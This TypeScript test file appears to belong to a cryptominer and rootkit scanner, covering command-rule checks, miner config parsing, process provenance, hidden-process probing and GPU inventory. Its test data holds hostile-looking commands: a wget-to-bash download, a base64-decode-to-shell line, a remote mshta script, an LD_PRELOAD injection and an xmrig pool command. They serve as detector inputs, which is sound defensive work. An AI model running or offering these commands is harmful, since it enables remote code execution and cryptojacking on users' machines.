import { type ChildProcess, spawn } from 'node:child_process';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { DomainList } from '../main/engine/detect/mining-domains.js';
import { browserProcessInfo } from '../main/engine/scan/browser-roles.js';
import { checkCommand, shellRuns } from '../main/engine/scan/command-rules.js';
import { FindingSet, parentChain } from '../main/engine/scan/findings.js';
import { gpuInventory } from '../main/engine/scan/gpu-inventory.js';
import { probeHiddenProcesses } from '../main/engine/scan/hidden-procs.js';
import { analyseMinerConfig, configArgs, configCandidates, isMinerConfig } from '../main/engine/scan/miner-config.js';
import { locationFindings, WorldWritableDirs } from '../main/engine/scan/path-rules.js';
import type { ScanProc } from '../main/engine/scan/proc-snapshot.js';
import { executableIssues, poolPortConnections } from '../main/engine/scan/process-rules.js';
import { killAndWait } from './helpers/processes.js';

const dir = mkdtempSync(join(tmpdir(), 'iw-rules-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
const domains = new DomainList(['supportxmr.com', 'coinhive.com'], 'test');

function proc(over: Partial<ScanProc>): ScanProc {
  return {
    pid: 100,
    ppid: 1,
    name: 'x',
    state: 'S',
    exe: '/usr/bin/x',
    cmdline: 'x',
    argv: ['x'],
    uid: 0,
    user: 'root',
    startTimeMs: 1,
    kernelThread: false,
    cpuSec: 0,
    sockets: [],
    gpuDevices: [],
    ...over,
  };
}

describe('commands of persistence entries', () => {
  it('finds the programs a shell line runs, through wrappers, interpreters and sh -c', () => {
    expect(shellRuns('cd / && nohup nice -n 10 /tmp/a --x >/dev/null 2>&1 &').map((r) => r.path)).toEqual([
      'cd',
      '/tmp/a',
    ]);
    expect(shellRuns(`sh -c '/dev/shm/b; echo ok' ; python3 -u /var/tmp/c.py`).map((r) => r.path)).toEqual([
      'sh',
      '/dev/shm/b',
      'echo',
      'python3',
      '/var/tmp/c.py',
    ]);
    expect(shellRuns('FOO=1 env -i BAR=2 "/tmp/with space/x" # /tmp/comment')).toEqual([
      { path: '/tmp/with space/x', sourced: false },
    ]);
    expect(shellRuns('. "$HOME/.bash_aliases"')).toEqual([{ path: '$HOME/.bash_aliases', sourced: true }]);
    expect(shellRuns('x=$(/tmp/y) ; `/tmp/z`').map((r) => r.path)).toEqual(['/tmp/y', '/tmp/z']);
  });

  it('flags temp, hidden and signature commands; leaves ordinary ones alone', () => {
    const opts = { platform: 'linux' as const, domains, home: '/home/alice' };
    expect(checkCommand('/usr/bin/backup --quiet', opts)).toBeNull();
    expect(checkCommand('. ~/.bashrc', { ...opts, shellRc: true })).toBeNull();
    expect(checkCommand('[ -x /usr/bin/foo ] && /usr/bin/foo', opts)).toBeNull();
    expect(checkCommand('~/.x/run', opts)).toMatchObject({ severity: 'high', program: '/home/alice/.x/run' });
    expect(checkCommand('~/.x/run', opts)?.reasons[0]).toBe('runs /home/alice/.x/run from a hidden folder (.x)');
    expect(checkCommand('/home/alice/.cache/t/m', opts)?.reasons).toEqual(
      expect.arrayContaining([expect.stringMatching(/cache folder/)]),
    );
    expect(checkCommand('wget -q -O- http://198.51.100.2/i | bash', opts)?.reasons).toEqual([
      'downloads a script and pipes it into a shell',
    ]);
    expect(checkCommand('echo aGk= | base64 -d | sh', opts)?.reasons).toEqual([
      'decodes hidden (base64) code and runs it',
    ]);
    expect(checkCommand('/opt/miner/xmrig -o x.supportxmr.com:443', opts)?.reasons).toEqual([
      'miner signature: named like a known miner (xmrig); command line has a mining pool host (supportxmr.com)',
      'names a mining domain: x.supportxmr.com (listed as supportxmr.com)',
    ]);
    expect(checkCommand('LD_PRELOAD=/usr/lib/libx.so /usr/bin/app', opts)?.severity).toBe('high');
    expect(checkCommand('/etc/init.d/cron restart', opts)).toBeNull();
    expect(checkCommand('cd / && ~/bin/sshd -D', opts)).toMatchObject({ program: '/home/alice/bin/sshd' });
    expect(checkCommand('/tmp/systemd', opts)?.reasons).toEqual([
      'runs /tmp/systemd from a temporary folder (/tmp)',
      'runs /tmp/systemd, named like the system program systemd, which lives in /usr',
    ]);
  });

  it('reads Windows commands: quoted program, every path, environment variables', () => {
    const opts = { platform: 'win32' as const, domains, home: null };
    expect(checkCommand('"C:\\Program Files\\App\\app.exe" --tray', opts)).toBeNull();
    expect(checkCommand('rundll32.exe "C:\\Users\\bob\\AppData\\Local\\Temp\\x.dll",Start', opts)?.reasons).toEqual([
      'runs C:\\Users\\bob\\AppData\\Local\\Temp\\x.dll from a temporary folder (Temp)',
    ]);
    expect(checkCommand('mshta.exe "https://198.51.100.1/x.hta"', opts)?.reasons).toEqual([
      'runs a script with mshta (from the web or inline)',
    ]);
    expect(checkCommand('C:\\Windows\\System32\\mshta.exe C:\\Tools\\ui.hta', opts)).toBeNull();
  });
});

describe('miner configuration files', () => {
  it('recognises an XMRig config and names its pool hosts', () => {
    const cfg = JSON.stringify({
      autosave: true,
      'donate-level': 1,
      cpu: { enabled: true, 'max-threads-hint': 75 },
      pools: [{ url: 'pool.supportxmr.com:443', user: `4${'A'.repeat(94)}`, algo: 'rx/0', tls: true }],
    });
    const v = analyseMinerConfig(cfg);
    expect(isMinerConfig(v)).toBe(true);
    expect(v.hosts).toEqual(['pool.supportxmr.com']);
    expect(v.marks).toEqual(
      expect.arrayContaining([
        'a pool list with addresses (pool.supportxmr.com:443)',
        'a wallet address as the pool user',
        'a "donate-level" setting',
        'a mining algorithm (rx/0)',
        'RandomX / CPU mining settings',
      ]),
    );
  });

  it('reads XMR-Stak style text and leaves ordinary JSON alone', () => {
    const stak = '"pool_list" : [ {"pool_address" : "stratum+tcp://xmr.example.net:3333", "wallet_address" : "x"} ],';
    const v = analyseMinerConfig(stak);
    expect(isMinerConfig(v)).toBe(true);
    expect(v.hosts).toEqual(['xmr.example.net']);
    expect(isMinerConfig(analyseMinerConfig('{"name":"app","algo":"sha256","url":"https://example.com"}'))).toBe(false);
    expect(isMinerConfig(analyseMinerConfig('not json at all'))).toBe(false);
  });

  it('finds the config files a process names or keeps beside its program', () => {
    expect(configArgs(['xmrig', '-c', 'cfg.json', '--config=/etc/x.json', '--cpu'])).toEqual([
      'cfg.json',
      '/etc/x.json',
    ]);
    expect(configCandidates('/opt/m/xmrig (deleted)', ['xmrig', '--config', 'my.json'], '/home/u', 'linux')).toEqual([
      '/home/u/my.json',
      '/opt/m/config.json',
      '/opt/m/pools.txt',
    ]);
    expect(configCandidates('C:\\m\\x.exe', ['x', '-c', 'D:\\c.json'], null, 'win32')).toEqual([
      'D:\\c.json',
      'C:\\m\\config.json',
      'C:\\m\\pools.txt',
    ]);
  });
});

describe('executables and processes', () => {
  it('flags Windows data-folder roots, and folders anyone can write', () => {
    expect(locationFindings('C:\\ProgramData\\svc.exe', 'win32').map((f) => f.where)).toEqual([
      'the root of C:\\ProgramData, which every user can write',
    ]);
    expect(locationFindings('C:\\ProgramData\\Vendor\\App\\app.exe', 'win32')).toEqual([]);
    expect(locationFindings('C:\\Users\\bob\\AppData\\Roaming\\u.exe', 'win32').map((f) => f.where)).toEqual([
      'the root of %APPDATA%',
    ]);
    // /tmp itself is world-writable (with the sticky bit).
    expect(new WorldWritableDirs().check('/tmp/x')).toBe('/tmp');
    expect(new WorldWritableDirs().check('/usr/bin/env')).toBeNull();
    const asked: string[] = [];
    const dirs = new WorldWritableDirs((path) => {
      asked.push(path);
      return path === '/srv/drop' ? 0o40777 : 0o40755;
    });
    const issues = executableIssues(proc({ exe: '/srv/drop/x' }), 'linux', dirs);
    expect(issues.map((i) => i.title)).toEqual(['Runs from a folder every user can write: /srv/drop']);
    expect(executableIssues(proc({ exe: '/srv/drop/y (deleted)' }), 'linux', dirs).map((i) => i.rule)).toEqual([
      'world-writable-folder',
      'deleted-executable',
    ]);
    expect(executableIssues(proc({ exe: '/srv/app/x' }), 'linux', dirs)).toEqual([]);
    // One look per folder.
    expect(asked).toEqual(['/srv/drop', '/srv/app']);
  });

  it('tells deleted, memory-only, impostor and kernel-thread processes apart', () => {
    const rules = (p: Partial<ScanProc>) =>
      executableIssues(proc(p), 'linux', null).map((i) => `${i.rule}:${i.severity}`);
    // Severities are the detector's (detect/provenance-evidence.ts): the same process, the same
    // severity in the monitor and here. An update replacing an installed program is no finding alone.
    expect(rules({ exe: '/usr/sbin/cupsd (deleted)' })).toEqual([]);
    expect(rules({ exe: '/home/u/build/app (deleted)' })).toEqual(['deleted-executable:low']);
    expect(rules({ exe: '/memfd:x (deleted)' })).toEqual(['deleted-executable:low']);
    expect(rules({ name: 'kworker/0:1', exe: '/var/lib/k', cmdline: '[kworker/0:1]' })).toEqual([
      'kernel-thread-impostor:medium',
    ]);
    expect(rules({ name: 'sshd', exe: '/home/u/sshd' })).toEqual(['system-name-impostor:medium']);
    expect(rules({ name: 'kworker/0:1', exe: null, cmdline: '', kernelThread: true, ppid: 2 })).toEqual([]);
  });

  it('counts only live TCP connections to pool ports', () => {
    const base = { pid: 1, localAddress: '10.0.0.2', localPort: 50000, remoteAddress: '10.0.0.1', uid: 0, inode: 1 };
    const conns = [
      { ...base, proto: 'tcp' as const, remotePort: 3333, state: 'ESTABLISHED' },
      { ...base, proto: 'tcp6' as const, remotePort: 14444, state: 'SYN_SENT' },
      { ...base, proto: 'tcp' as const, remotePort: 3333, state: 'TIME_WAIT' },
      { ...base, proto: 'tcp' as const, remotePort: 443, state: 'ESTABLISHED' },
      { ...base, proto: 'udp' as const, remotePort: 3333, state: 'ESTABLISHED' },
    ];
    expect(poolPortConnections(conns).map((c) => c.remotePort)).toEqual([3333, 14444]);
  });

  it('builds parent chains that stop at invisible parents and loops', () => {
    const a = proc({ pid: 10, ppid: 5, name: 'a' });
    const b = proc({ pid: 5, ppid: 1, name: 'b' });
    const init = proc({ pid: 1, ppid: 0, name: 'init' });
    const map = new Map([a, b, init].map((p) => [p.pid, p]));
    expect(parentChain(a, map).map((c) => c.pid)).toEqual([5, 1]);
    expect(parentChain(proc({ pid: 11, ppid: 99 }), map)).toEqual([{ pid: 99, name: '(not visible)', exe: null }]);
    const loop = new Map([
      [20, proc({ pid: 20, ppid: 21 })],
      [21, proc({ pid: 21, ppid: 20 })],
    ]);
    expect(parentChain(loop.get(20) as ScanProc, loop).map((c) => c.pid)).toEqual([21]);
  });

  it('raises a process with several kinds of finding, once per finding, naming the others', () => {
    const set = new FindingSet();
    const ref = {
      pid: 1,
      ppid: 0,
      name: 'x',
      exe: '/tmp/x',
      cmdline: '',
      user: null,
      startTimeMs: 5,
      sha256: null,
      chain: [],
    };
    set.add({
      key: 'a',
      rule: 'temp-folder-executable',
      severity: 'medium',
      title: 't',
      evidence: [],
      process: ref,
      actions: [],
    });
    set.add({
      key: 'a',
      rule: 'pool-port-connection',
      severity: 'medium',
      title: 'p',
      evidence: [],
      process: ref,
      actions: [],
    });
    set.add({
      key: 'a',
      rule: 'pool-port-connection',
      severity: 'low',
      title: 'p2',
      evidence: [],
      process: { ...ref, pid: 2 },
      actions: [],
    });
    set.corroborate();
    expect(set.sorted().map((f) => [f.id, f.severity])).toEqual([
      ['pool-port-connection:a', 'high'],
      ['temp-folder-executable:a', 'high'],
      ['pool-port-connection:a#2', 'low'],
    ]);
    expect(set.all()[0]?.evidence).toEqual(['the same process also has: a connection to a mining-pool port']);
  });
});

describe('browsers', () => {
  it('names browser processes and their roles from their command lines', () => {
    const info = (name: string, exe: string | null, cmdline: string) =>
      browserProcessInfo({ name, exe, cmdline }, 'linux');
    expect(info('chrome', '/opt/google/chrome/chrome', '/opt/google/chrome/chrome')).toEqual({
      browser: 'chrome',
      role: 'browser',
      subType: null,
    });
    expect(info('chrome', '/opt/google/chrome/chrome', 'chrome --type=renderer --lang=en')).toMatchObject({
      role: 'renderer',
    });
    expect(info('chrome', '/opt/google/chrome/chrome', 'chrome --type=renderer --extension-process')).toMatchObject({
      role: 'extension',
    });
    expect(info('chromium', '/usr/lib/chromium/chromium', 'chromium --type=gpu-process --field-trial')).toMatchObject({
      browser: 'chromium',
      role: 'gpu-process',
    });
    expect(
      info(
        'msedge',
        '/opt/microsoft/msedge/msedge',
        'msedge --type=utility --utility-sub-type=network.mojom.NetworkService',
      ),
    ).toEqual({
      browser: 'edge',
      role: 'utility',
      subType: 'network.mojom.NetworkService',
    });
    expect(info('brave', '/opt/brave.com/brave/brave', 'brave --type=zygote')).toEqual({
      browser: 'brave',
      role: 'other',
      subType: 'zygote',
    });
    expect(
      info(
        'Isolated Web Co',
        '/usr/lib/firefox/firefox',
        '/usr/lib/firefox/firefox -contentproc -isForBrowser 12 true tab',
      ),
    ).toEqual({
      browser: 'firefox',
      role: 'content',
      subType: 'tab',
    });
    expect(info('RDD Process', '/usr/lib/firefox/firefox', 'firefox -contentproc 3 true rdd')).toMatchObject({
      role: 'utility',
      subType: 'rdd',
    });
    expect(info('Web Content', '/usr/lib/firefox/firefox', '')).toMatchObject({ role: 'content' });
    expect(browserProcessInfo({ name: 'com.apple.WebKit.GPU', exe: null, cmdline: '' }, 'darwin')).toEqual({
      browser: 'safari',
      role: 'gpu-process',
      subType: null,
    });
    // Electron apps use the same flags but are not browsers.
    expect(info('code', '/usr/share/code/code', 'code --type=renderer')).toBeNull();
  });
});

describe('hidden processes', () => {
  it('reports a pid that answers a lookup but is not listed, and not a thread', async () => {
    const proc = join(dir, 'proc');
    for (const [pid, tgid] of [
      [1, 1],
      [2, 2],
      [5, 5],
      [7, 2],
    ] as const) {
      mkdirSync(join(proc, String(pid)), { recursive: true });
      writeFileSync(join(proc, String(pid), 'status'), `Name:\tp${pid}\nTgid:\t${tgid}\nPid:\t${pid}\n`);
    }
    mkdirSync(join(proc, 'sys/kernel'), { recursive: true });
    writeFileSync(join(proc, 'sys/kernel/pid_max'), '100\n');
    // A filtering rootkit: the listing leaves out 5 (a process) and 7 (a thread, which is never listed anyway).
    const listing = () => [1, 2];
    const r = await probeHiddenProcesses({ procRoot: proc, listed: new Set(listing()), relist: listing });
    expect(r).toEqual({ hidden: [{ pid: 5, name: 'p5', probe: 'lookup' }], probed: 97, maxPid: 100, complete: true });
  });

  it('stops at its time budget and says the probe is incomplete', async () => {
    let t = 0;
    const r = await probeHiddenProcesses({
      procRoot: join(dir, 'proc'),
      listed: new Set(),
      maxPid: 20_000,
      budgetMs: 1,
      now: () => (t += 1),
    });
    expect(r.complete).toBe(false);
    expect(r.probed).toBeLessThan(20_000);
  });

  it.skipIf(process.platform !== 'linux')('finds a real process left out of the listing, and no threads', async () => {
    const child: ChildProcess = spawn(process.execPath, ['-e', 'setTimeout(() => {}, 30000)'], { stdio: 'ignore' });
    try {
      const pid = child.pid as number;
      const listing = () =>
        readdirSync('/proc')
          .filter((n) => /^\d+$/.test(n))
          .map(Number)
          .filter((p) => p !== pid);
      const r = await probeHiddenProcesses({ listed: new Set(listing()), relist: listing, budgetMs: 10_000 });
      expect(r.complete).toBe(true);
      // This Node process and the child have many threads, each answering a lookup: none is reported.
      const comm = readFileSync(`/proc/${pid}/comm`, 'utf8').trim();
      expect(r.hidden).toEqual([{ pid, name: comm, probe: 'lookup' }]);
    } finally {
      await killAndWait(child);
    }
  });
});

describe('GPU inventory', () => {
  const XML = `<?xml version="1.0" ?>
<!DOCTYPE nvidia_smi_log SYSTEM "nvsmi_device_v12.dtd">
<nvidia_smi_log>
  <driver_version>550.54.14</driver_version>
  <attached_gpus>1</attached_gpus>
  <gpu id="00000000:01:00.0">
    <product_name>NVIDIA GeForce RTX 3080</product_name>
    <uuid>GPU-1234</uuid>
    <minor_number>0</minor_number>
    <fb_memory_usage><total>10240 MiB</total><used>2048 MiB</used></fb_memory_usage>
    <utilization><gpu_util>97 %</gpu_util><memory_util>40 %</memory_util><encoder_util>0 %</encoder_util><decoder_util>0 %</decoder_util></utilization>
    <processes>
      <process_info><pid>4242</pid><type>C</type><process_name>/tmp/.x/miner</process_name><used_memory>1900 MiB</used_memory></process_info>
    </processes>
  </gpu>
</nvidia_smi_log>`;

  it('reads an nvidia-smi snapshot through the injected runner, with its timeout', async () => {
    const asked: number[] = [];
    const inv = await gpuInventory({
      platform: 'linux',
      nvidiaSmi: async (timeoutMs) => {
        asked.push(timeoutMs);
        return { ok: true, xml: XML };
      },
      timeoutMs: 1234,
      sysRoot: join(dir, 'no-sys'),
      deviceUsers: [
        { pid: 4242, name: 'miner' },
        { pid: 77, name: 'Xorg' },
      ],
    });
    expect(asked).toEqual([1234]);
    expect(inv.driverVersion).toBe('550.54.14');
    expect(inv.devices).toEqual([
      {
        source: 'nvidia-smi',
        id: '00000000:01:00.0',
        name: 'NVIDIA GeForce RTX 3080',
        vendor: 'nvidia',
        driver: 'nvidia 550.54.14',
        memoryMiB: 10240,
        memoryUsedMiB: 2048,
        util: 97,
      },
    ]);
    expect(inv.processes).toEqual([
      { pid: 4242, name: '/tmp/.x/miner', source: 'nvidia-smi', memoryMiB: 1900 },
      { pid: 77, name: 'Xorg', source: 'device-file', memoryMiB: null },
    ]);
    expect(inv.tools[0]).toEqual({ tool: 'nvidia-smi', ok: true, detail: '1 GPU, driver 550.54.14' });
  });

  it('says so when no GPU tool exists, and when nvidia-smi prints something unreadable', async () => {
    const none = await gpuInventory({
      platform: 'linux',
      nvidiaSmi: async () => ({ ok: false, reason: 'nvidia-smi not found on PATH (no NVIDIA driver tools installed)' }),
      sysRoot: join(dir, 'no-sys'),
    });
    expect(none.devices).toEqual([]);
    expect(none.tools).toEqual([
      { tool: 'nvidia-smi', ok: false, detail: 'nvidia-smi not found on PATH (no NVIDIA driver tools installed)' },
      { tool: 'DRM (sysfs)', ok: false, detail: expect.stringMatching(/^no GPU under .*no-sys\/class\/drm/) },
    ]);
    const broken = await gpuInventory({ platform: 'win32', nvidiaSmi: async () => ({ ok: true, xml: '<oops>' }) });
    expect(broken.tools.map((t) => t.detail)).toEqual([
      expect.stringMatching(/^its output could not be read: /),
      'Linux only; on Windows only nvidia-smi is asked',
    ]);
  });
});
